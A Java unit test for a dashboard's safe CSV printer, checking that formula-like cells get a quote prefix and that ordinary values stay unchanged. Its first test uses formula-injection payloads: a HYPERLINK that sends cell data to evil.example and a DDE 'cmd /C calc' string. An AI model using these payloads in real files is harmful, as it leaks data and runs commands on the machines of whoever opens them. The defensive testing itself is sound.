package dev.shoplens.dashboard.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.time.Instant;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class SafeCsvPrinterTest {

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws IOException {
        String[] header = {"id", "note"};
        String text = CsvExport.text(header, csv -> {
            csv.printRecord("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "=1+2");
            csv.printRecord("+SUM(1,2)", "-2+3+cmd|' /C calc'!A0");
            csv.printRecord("@SUM(A1:A9)", "\t=1");
            csv.printRecord("\r=1", "a=b");
        });

        List<CSVRecord> rows = parse(text);
        assertThat(rows.get(0).values()).containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'=1+2");
        assertThat(rows.get(1).values()).containsExactly("'+SUM(1,2)", "'-2+3+cmd|' /C calc'!A0");
        assertThat(rows.get(2).values()).containsExactly("'@SUM(A1:A9)", "'\t=1");
        assertThat(rows.get(3).values()).containsExactly("'\r=1", "a=b");
    }

    @Test
    void numbersDatesAndPlainTextStayAsTheyAre() throws IOException {
        String[] header = {"a", "b", "c", "d", "e", "f"};
        String text = CsvExport.text(header, csv -> {
            csv.printRecord(-3.5, "-3.50", "+12", "-1e-3", Instant.parse("2026-12-01T10:00:00Z"), null);
            csv.printRecord("café ✓", "", "o'neil", "c-42", "-", "=");
        });

        List<CSVRecord> rows = parse(text);
        assertThat(rows.get(0).values()).containsExactly("-3.5", "-3.50", "+12", "-1e-3", "2026-12-01T10:00:00Z", "");
        assertThat(rows.get(1).values()).containsExactly("café ✓", "", "o'neil", "c-42", "'-", "'=");
    }

    private static List<CSVRecord> parse(String text) throws IOException {
        return CSVFormat.DEFAULT
                .builder()
                .setSkipHeaderRecord(true)
                .setHeader()
                .get()
                .parse(new StringReader(text))
                .getRecords();
    }
}
